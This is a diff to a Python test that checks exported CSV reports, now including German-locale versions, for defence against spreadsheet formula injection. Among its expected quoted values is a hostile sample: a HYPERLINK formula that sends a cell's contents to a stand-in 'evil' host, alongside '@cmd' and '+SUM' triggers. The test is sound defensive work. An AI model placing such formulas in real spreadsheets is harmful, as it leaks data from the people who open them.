@@ -97,13 +97,17 @@ def test_workbooks_hold_no_formula_and_formula_like_text_is_quoted(hostile_proje
 def test_csv_text_fields_starting_with_a_trigger_are_quoted(hostile_project):
     project, _ = hostile_project
     files = sorted(ProjectPaths.from_workdir(project).reports.rglob("*.csv"))
-    assert {p.name for p in files} == {"indikatoren.csv", "alterspyramide.csv", "zeitreihe.csv"}
+    assert {"indikatoren.csv", "indikatoren_de.csv", "alterspyramide.csv", "alterspyramide_de.csv",
+            "zeitreihe.csv", "zeitreihe_de.csv"} <= {p.name for p in files}
     quoted = set()
     for path in files:
-        for record in csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")):
+        german = path.name.endswith("_de.csv") or path.name == "zeichenerklaerung.csv"
+        text = path.read_text(encoding="utf-8-sig" if german else "utf-8")
+        for record in csv.reader(io.StringIO(text, newline=""), delimiter=";" if german else ","):
             for field in record:
                 if field[:1] in FORMULA_TRIGGERS:
-                    float(field)  # only a number may start with "-" or "+"
+                    float(field.replace(".", "").replace(",", ".") if german else field)  # only a number may
+                    # start with "-" or "+"
                 if field.startswith("'"):
                     quoted.add(field)
     assert {"'=HYPERLINK(\"http://evil/?\"&A1,\"x\")", "'+SUM(1)", "'-2+3", "'@cmd", "'\tTab"} <= quoted
